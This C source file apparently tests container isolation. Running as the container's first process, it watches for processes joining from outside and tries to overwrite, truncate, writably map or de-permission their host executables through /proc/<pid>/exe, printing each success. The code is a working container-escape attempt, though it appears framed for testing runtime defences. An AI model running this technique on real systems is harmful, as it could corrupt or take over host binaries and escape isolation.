// Runs in a container as its first process: opens the program of every process that joins, and tries
// to change it if it is not a file of the container. Ends with the end of its input.
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "last_pid.h"

static void attack(int program) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", program);
  for (int i = 0; i < 1000; ++i) {
    const int fd = open(path, (i % 2 == 0 ? O_WRONLY : O_RDWR) | (i % 3 == 0 ? O_TRUNC : 0));
    if (fd >= 0 && write(fd, "#!/bin/sh\n", 10) == 10) puts("written");
    if (fd >= 0) close(fd);
  }
  if (ftruncate(program, 0) == 0) puts("truncated");
  if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, program, 0) != MAP_FAILED)
    puts("mapped");
  if (fchmod(program, 0) == 0) puts("no longer executable");
}

static int is_foreign(int program) {
  char path[64];
  char name[256] = "";
  snprintf(path, sizeof path, "/proc/self/fd/%d", program);
  if (readlink(path, name, sizeof name - 1) < 0) return 0;
  return strncmp(name, "/bin/", 5) != 0;
}

int main(void) {
  struct pollfd input = {0, POLLIN, 0};
  int next = 2;
  setvbuf(stdout, NULL, _IOLBF, 0);
  puts("ready");
  for (unsigned long tries = 0; (tries & 0xfff) != 0 || poll(&input, 1, 0) == 0; ++tries) {
    const int last = (tries & 0xff) == 0 ? last_pid() : 0;
    if (last > next) next = last;
    for (int pid = next; pid < next + 3; ++pid) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      const int program = open(path, O_RDONLY);
      if (program < 0) {
        if (errno != ENOENT && pid > next) next = pid;
        continue;
      }
      if (is_foreign(program)) {
        puts("opened");
        attack(program);
        next = pid + 1;
      }
      close(program);
    }
  }
  return 0;
}
